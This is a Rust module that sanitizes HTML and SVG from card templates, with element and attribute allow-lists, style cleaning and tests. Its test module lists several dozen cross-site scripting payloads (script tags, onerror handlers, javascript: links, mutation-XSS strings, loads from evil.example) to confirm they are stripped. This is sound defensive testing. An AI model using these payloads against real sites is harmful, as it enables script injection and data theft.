//! Subset of HTML that templates may use: text, tables, pictures and drawings. Scripts, forms, links and external
//! content are removed.

use super::complexity::{check_drawing, check_face, check_layers, check_levels};
use super::picture_names::{PictureNames, SCHEME};
use super::stylesheet::{CleanStyle, LayerRule, STYLED, class_of, clean_declarations, sheet};
use ammonia::{Builder, UrlRelative};
use std::borrow::Cow;
use std::cell::RefCell;
use std::sync::{Arc, Mutex, PoisonError};

/// Allowed elements.
const ELEMENTS: [&str; 52] = [
    "article",
    "aside",
    "b",
    "bdi",
    "br",
    "caption",
    "code",
    "col",
    "colgroup",
    "dd",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hr",
    "i",
    "img",
    "li",
    "main",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "ruby",
    "s",
    "section",
    "small",
    "span",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "u",
];
const MORE_ELEMENTS: [&str; 1] = ["ul"];

/// Elements allowed in inline drawings.
const DRAWING_ELEMENTS: [&str; 12] =
    ["svg", "g", "path", "rect", "circle", "ellipse", "line", "polyline", "polygon", "text", "tspan", "title"];

/// Additional elements allowed in drawing files. Most of them define parts of the drawing, to which other elements refer.
const FILE_DRAWING_ELEMENTS: [&str; 11] = [
    "defs",
    "linearGradient",
    "radialGradient",
    "stop",
    "clipPath",
    "mask",
    "pattern",
    "symbol",
    "use",
    "desc",
    "marker",
];

/// Elements that are removed together with their content.
const REMOVED_WITH_CONTENT: [&str; 14] = [
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "template",
    "noscript",
    "textarea",
    "select",
    "xmp",
    "noembed",
    "noframes",
    "foreignObject",
    "head",
];

/// Attributes allowed on all elements.
const ATTRIBUTES: [&str; 16] = [
    "class",
    "style",
    "title",
    "lang",
    "dir",
    "alt",
    "src",
    "width",
    "height",
    "colspan",
    "rowspan",
    "span",
    "start",
    "value",
    "role",
    "aria-hidden",
];

/// Attributes that make a table cell or column span several columns or rows. The browser has to lay out every spanned column and row.
const SPANS: [&str; 3] = ["colspan", "rowspan", "span"];

/// Maximum number of columns or rows that one cell may span.
const MAX_SPAN: usize = 100;

const DRAWING_ATTRIBUTES: [&str; 52] = [
    "viewBox",
    "preserveAspectRatio",
    "d",
    "x",
    "y",
    "x1",
    "y1",
    "x2",
    "y2",
    "cx",
    "cy",
    "r",
    "rx",
    "ry",
    "dx",
    "dy",
    "points",
    "transform",
    "fill",
    "fill-opacity",
    "fill-rule",
    "stroke",
    "stroke-width",
    "stroke-linecap",
    "stroke-linejoin",
    "stroke-dasharray",
    "stroke-opacity",
    "stroke-dashoffset",
    "stroke-miterlimit",
    "opacity",
    "font-size",
    "font-weight",
    "font-family",
    "font-style",
    "text-anchor",
    "dominant-baseline",
    "letter-spacing",
    "textLength",
    "lengthAdjust",
    "offset",
    "stop-color",
    "stop-opacity",
    "gradientUnits",
    "gradientTransform",
    "spreadMethod",
    "fx",
    "fy",
    "clip-rule",
    "color",
    "visibility",
    "display",
    "pathLength",
];

/// Additional attributes allowed in drawing files. They define parts of the drawing or refer to them.
const REFERENCE_ATTRIBUTES: [&str; 12] = [
    "id",
    "href",
    "clip-path",
    "mask",
    "clipPathUnits",
    "maskUnits",
    "maskContentUnits",
    "patternUnits",
    "patternContentUnits",
    "patternTransform",
    "orient",
    "refX",
];

/// Result of cleaning a template's output.
#[derive(Debug, Default)]
pub(super) struct CleanPage {
    /// Cleaned HTML.
    pub(super) html: String,
    /// Cleaned stylesheet, scoped to the face.
    pub(super) style: String,
    /// Cleaned contents of `style` attributes. In place of `style`, each element has the attribute [`STYLED`], which identifies its cleaned
    /// style by a hash.
    pub(super) inline: Vec<String>,
    /// Excerpts of the removed elements, attributes and styles that are reported as warnings.
    pub(super) left_out: Vec<String>,
    /// Number of bytes that were parsed. A stylesheet that was reused from the previous face does not count.
    pub(super) parsed: usize,
}

/// Cache of the last cleaned stylesheet. The cards of a kind usually have the same stylesheet.
#[derive(Debug, Default)]
pub(super) struct LastSheet(RefCell<Option<(String, CleanStyle)>>);

impl LastSheet {
    /// Cleans a stylesheet. Also returns the number of bytes that were parsed: 0 if the stylesheet is in the cache.
    fn clean(&self, text: String, pictures: &PictureNames) -> (CleanStyle, usize) {
        let mut last = self.0.borrow_mut();
        if let Some((known, style)) = &*last
            && *known == text
        {
            return (style.clone(), 0);
        }
        let (style, parsed) = (sheet(&text, pictures), text.len());
        *last = Some((text, style.clone()));
        (style, parsed)
    }
}

/// Cleans the output of a template.
///
/// # Errors
/// Returns the reason if a browser would take too long to show it.
pub(super) fn clean(text: &str, pictures: &PictureNames, last_sheet: &LastSheet) -> Result<CleanPage, String> {
    let (rest, styles) = without_styles(text);
    check_face(&rest)?;
    let (css, parsed) = last_sheet.clean(styles, pictures);
    let layers = Arc::new(Mutex::new(css.layers));
    let styled_layers = layers.clone();
    let left = Arc::new(Mutex::new(css.left_out));
    let inline = Arc::new(Mutex::new(Vec::<String>::new()));
    let (reported, requested, styled) = (left.clone(), pictures.clone(), inline.clone());
    let filter = move |element: &str, attribute: &str, value: &str| -> Option<String> {
        match attribute {
            "style" => {
                let kept = clean_declarations(value, &requested);
                reported.lock().unwrap_or_else(PoisonError::into_inner).extend(kept.left_out);
                let mut all = styled.lock().unwrap_or_else(PoisonError::into_inner);
                if kept.style.is_empty() {
                    return None;
                }
                let name = class_of(&kept.style);
                all.push(kept.style);
                let mut layers = styled_layers.lock().unwrap_or_else(PoisonError::into_inner);
                // Equal styles need only one rule, because `check_layers` counts the rule for each element with that style.
                let new: Vec<LayerRule> = kept.layers.into_iter().filter(|rule| !layers.contains(rule)).collect();
                layers.extend(new);
                Some(name)
            }
            "src" if element == "img" => requested.address(value),
            "src" => None,
            _ if SPANS.contains(&attribute) && !is_short_number(value, MAX_SPAN) => {
                let removed = format!("{attribute}={}", cut(value));
                reported.lock().unwrap_or_else(PoisonError::into_inner).push(removed);
                None
            }
            _ => is_plain(value).then(|| value.to_owned()),
        }
    };
    let mut builder = Builder::empty();
    builder
        .add_tags(ELEMENTS.iter().chain(&MORE_ELEMENTS).chain(&DRAWING_ELEMENTS).copied())
        .add_generic_attributes(ATTRIBUTES.iter().chain(&DRAWING_ATTRIBUTES).copied())
        .add_clean_content_tags(REMOVED_WITH_CONTENT)
        // The filter accepts only placeholders, but must see external URLs to report them.
        .url_schemes([SCHEME.trim_end_matches(':'), "http", "https", "data"].into_iter().collect())
        .url_relative(UrlRelative::PassThrough)
        .link_rel(None)
        .attribute_filter(move |element, attribute, value| filter(element, attribute, value).map(Cow::Owned));
    // The same characters in text content are replaced too, which is harmless.
    let html = builder.clean(&rest).to_string().replace(" style=\"", &format!(" {STYLED}=\""));
    let inline = std::mem::take(&mut *inline.lock().unwrap_or_else(PoisonError::into_inner));
    let mut left_out = std::mem::take(&mut *left.lock().unwrap_or_else(PoisonError::into_inner));
    left_out.extend(foreign_elements(&rest));
    check_layers(&html, &layers.lock().unwrap_or_else(PoisonError::into_inner))?;
    Ok(CleanPage { html, style: css.style, inline, left_out, parsed: parsed + rest.len() })
}

/// Reason why a drawing is not shown.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum DrawingError {
    /// Nothing is left after cleaning.
    Nothing,
    /// The drawing is too complex. Contains the reason.
    Intricate(String),
}

/// Removes active and external content from a drawing file. Fails if the drawing is too complex, or if nothing is left.
pub(super) fn drawing(text: &str) -> Result<String, DrawingError> {
    check_levels(text).map_err(DrawingError::Intricate)?;
    let clean = clean_drawing(text).ok_or(DrawingError::Nothing)?;
    check_drawing(&clean).map_err(DrawingError::Intricate)?;
    Ok(clean)
}

fn clean_drawing(text: &str) -> Option<String> {
    let filter = |attribute: &str, value: &str| -> Option<String> {
        match attribute {
            "style" => {
                Some(clean_declarations(value, &PictureNames::default()).style).filter(|style| !style.is_empty())
            }
            "href" => value.strip_prefix('#').is_some_and(is_part_name).then(|| value.to_owned()),
            "id" => is_part_name(value).then(|| value.to_owned()),
            "src" | "class" => None,
            _ => (is_plain(value) || is_own(value)).then(|| value.to_owned()),
        }
    };
    let mut builder = Builder::empty();
    builder
        .add_tags(DRAWING_ELEMENTS.iter().chain(&FILE_DRAWING_ELEMENTS).copied())
        .add_generic_attributes(ATTRIBUTES.iter().chain(&DRAWING_ATTRIBUTES).chain(&REFERENCE_ATTRIBUTES).copied())
        .add_clean_content_tags(REMOVED_WITH_CONTENT)
        .url_schemes(std::iter::empty::<&str>().collect())
        .url_relative(UrlRelative::PassThrough)
        .link_rel(None)
        .attribute_filter(move |_, attribute, value| filter(attribute, value).map(Cow::Owned));
    let clean = builder.clean(text).to_string();
    let start = clean.find("<svg")?;
    let end = clean.rfind("</svg>")? + "</svg>".len();
    let rest = clean.get(start + "<svg".len()..end)?.replace("&nbsp;", "&#160;");
    Some(format!("<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"{rest}"))
}

/// Returns whether `value` is a non-negative integer up to `most`.
fn is_short_number(value: &str, most: usize) -> bool {
    value.trim().parse().is_ok_and(|number: usize| number <= most)
}

/// Returns the first characters of a value, for messages.
fn cut(value: &str) -> String {
    value.chars().take(12).collect()
}

/// Returns whether an attribute value is harmless: it cannot make a browser fetch a resource or run a script, and it contains no tags or
/// escapes.
fn is_plain(value: &str) -> bool {
    let value = value.to_ascii_lowercase();
    !["url", "image", "src(", "javascript:", "\\", "<", ">", SCHEME].iter().any(|word| value.contains(word))
}

/// Returns whether `value` is a `url(#…)` reference to an element of the same drawing.
fn is_own(value: &str) -> bool {
    value.trim().strip_prefix("url(#").and_then(|rest| rest.strip_suffix(')')).is_some_and(is_part_name)
}

/// Returns whether `name` is allowed as the id of an element in a drawing. Browsers decode escapes such as `%61` in references. If other
/// characters were allowed, a reference could lead to another element than [`check_drawing`] assumes.
fn is_part_name(name: &str) -> bool {
    !name.is_empty() && name.chars().all(|character| character.is_alphanumeric() || "-_.:".contains(character))
}

/// Splits a page into its HTML without `<style>` elements, and the contents of those elements.
fn without_styles(text: &str) -> (String, String) {
    let lower = text.to_ascii_lowercase();
    let (mut rest, mut styles, mut at) = (String::new(), String::new(), 0);
    while let Some(start) = lower[at..].find("<style").map(|found| at + found) {
        rest.push_str(&text[at..start]);
        let Some(open) = lower[start..].find('>').map(|found| start + found + 1) else { return (rest, styles) };
        let end = lower[open..].find("</style").map_or(text.len(), |found| open + found);
        styles.push_str(&text[open..end]);
        styles.push('\n');
        at = lower[end..].find('>').map_or(text.len(), |found| end + found + 1);
    }
    rest.push_str(&text[at..]);
    (rest, styles)
}

/// Returns the names of forbidden elements in a page, without duplicates.
fn foreign_elements(text: &str) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    for part in text.split('<').skip(1) {
        let name: String =
            part.chars().take_while(|character| character.is_ascii_alphanumeric() || *character == '-').collect();
        let is_known = ELEMENTS
            .iter()
            .chain(&MORE_ELEMENTS)
            .chain(&DRAWING_ELEMENTS)
            .any(|known| known.eq_ignore_ascii_case(&name));
        if name.starts_with(|character: char| character.is_ascii_alphabetic()) && !is_known && !found.contains(&name) {
            found.push(name);
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::super::picture_names::PictureNames;
    use super::{CleanPage, DrawingError, LastSheet, clean, drawing};

    fn cleaned(text: &str) -> CleanPage {
        clean(text, &PictureNames::default(), &LastSheet::default()).unwrap()
    }

    fn kept(text: &str) -> String {
        let kept = cleaned(text);
        [kept.html, kept.style, kept.inline.concat()].concat()
    }

    #[test]
    fn text_tables_and_drawings_are_kept() {
        let face = "<h1 class=\"a\">A <b>b</b></h1><table><tbody><tr><td colspan=\"2\">1</td></tr></tbody></table>\
                    <svg viewBox=\"0 0 4 4\"><path d=\"M0 0h4\" fill=\"#123456\"></path></svg>";
        assert_eq!(kept(face), face);
        let wide = cleaned("<table><tr><td colspan=\"1000\" rowspan=65534>1</td></tr></table>");
        assert!(!wide.html.contains("span") && wide.left_out.len() == 2, "{wide:?}");
        assert_eq!(kept("<img src=\"coin.png\" alt=\"coin\">"), "<img src=\"parlour-picture:0\" alt=\"coin\">");
        assert_eq!(kept("<img src=\"parlour-picture:0\">"), "<img>");
        let styled = cleaned("<p style=\"color: red; position: fixed\">a</p><b style=\"color: red\">b</b>");
        let name = super::class_of("color: red; ");
        assert_eq!(styled.html, format!("<p data-styled=\"{name}\">a</p><b data-styled=\"{name}\">b</b>"));
        assert_eq!(styled.inline, ["color: red; "; 2]);
    }

    /// Each hostile template tries to escape from the card.
    #[test]
    fn active_and_external_content_is_removed() {
        for hostile in [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"https://evil.example/a.png\">",
            "<img src=\"//evil.example/a.png\">",
            "<img src=\"../../secret.png\">",
            "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
            "<img srcset=\"//evil.example/a.png 2x\">",
            "<img src=\"parlour-picture:0\">",
            "<a href=\"javascript:alert(1)\">a</a>",
            "<a href=\"//evil.example\">a</a>",
            "<form action=\"//evil.example\"><input name=a><button>a</button></form>",
            "<iframe src=\"//evil.example\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=\"//evil.example\"></object><embed src=\"//evil.example\">",
            "<link rel=stylesheet href=\"//evil.example/a.css\">",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
            "<base href=\"//evil.example\">",
            "<video src=\"//evil.example\" autoplay></video><audio src=\"//evil.example\"></audio>",
            "<svg onload=alert(1)><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>a</text></a></svg>",
            "<svg><use href=\"//evil.example/a.svg#a\"></use><image href=\"//evil.example/a.png\"></image></svg>",
            "<svg><animate attributeName=\"href\" values=\"javascript:alert(1)\"></animate><set></set></svg>",
            "<svg><foreignObject><iframe src=\"//evil.example\"></iframe></foreignObject></svg>",
            "<svg><rect fill=\"url(//evil.example/a.svg#a)\"></rect></svg>",
            "<svg><style>@import '//evil.example/a.css';</style></svg>",
            "<style>@import '//evil.example/a.css';</style>",
            "<style>a { background: url(//evil.example/a.png) }</style>",
            "<p style=\"background: url(//evil.example/a.png)\">a</p>",
            "<p style=\"position:fixed;inset:0;z-index:99999\">a</p>",
            "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\"></math>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><script>alert(1)</script></template>",
            "<textarea></textarea><select><option>a</option></select>",
            "<div id=\"log\" name=\"token\" onclick=\"alert(1)\" contenteditable tabindex=1 autofocus>a</div>",
            "<p hx-get=\"//evil.example\" data-hx-post=\"/undo\" hx-trigger=\"load\">a</p>",
            "</div></div></body></html><script>alert(1)</script>",
            "<!--><script>alert(1)</script>-->",
            "<dialog open>a</dialog><details open ontoggle=alert(1)>a</details>",
        ] {
            let left = kept(hostile).to_lowercase();
            for word in [
                "<script",
                "evil",
                "javascript",
                "onload",
                "onerror",
                "onclick",
                "ontoggle",
                "<iframe",
                "<form",
                "<input",
                "<button",
                "href",
                "<style",
                "<link",
                "<meta",
                "<base",
                "data:",
                "hx-",
                "fixed",
                "<video",
                "<audio",
                "<object",
                "<embed",
                "<use",
                "<animate",
                "<set",
                "foreignobject",
                "srcset",
                "id=",
                "name=",
                "contenteditable",
                "</body",
                "<math",
                "<a",
                "@import",
                "url(",
                "..",
                "<dialog",
                "<template",
                "tabindex",
                "autofocus",
            ] {
                assert!(!left.contains(word), "{hostile}: {left}");
            }
        }
    }

    #[test]
    fn unclosed_elements_are_closed() {
        assert_eq!(kept("<div><b>a"), "<div><b>a</b></div>");
        assert_eq!(kept("a</div></div>b"), "ab");
        assert!(kept(&"<div>".repeat(64)).ends_with("</div>"));
        let deep = clean(&"<div>".repeat(4_000), &PictureNames::default(), &LastSheet::default());
        assert!(deep.unwrap_err().contains("64 deep"));
    }

    #[test]
    fn drawing_files_are_kept_without_active_content() {
        let text = "<?xml version=\"1.0\"?><!DOCTYPE svg><svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 8 8\" onload=\"alert(1)\">\
                    <defs><linearGradient id=\"a\"><stop offset=\"0\" stop-color=\"red\"/></linearGradient></defs><script>alert(1)</script>\
                    <rect width=\"8\" height=\"8\" fill=\"url(#a)\"/><image href=\"//evil.example/a.png\"/><use href=\"//evil.example#a\"/></svg>";
        let left = drawing(text).unwrap();
        assert!(left.contains("fill=\"url(#a)\"") && left.contains("<linearGradient id=\"a\">"), "{left}");
        assert!(!["script", "onload", "evil", "alert", "image"].iter().any(|word| left.contains(word)), "{left}");
        // A browser decodes `%61` to `a`.
        let escaped =
            drawing("<svg><g id=\"a\"></g><g id=\"%61\"></g><use href=\"#%61\"></use><use href=\"#a\"></use></svg>")
                .unwrap();
        assert!(!escaped.contains('%') && escaped.contains("href=\"#a\""), "{escaped}");
        assert_eq!(drawing("<html>no drawing</html>"), Err(DrawingError::Nothing));
        assert!(matches!(drawing(&"<svg>".repeat(12_000)), Err(DrawingError::Intricate(_))));
    }
}
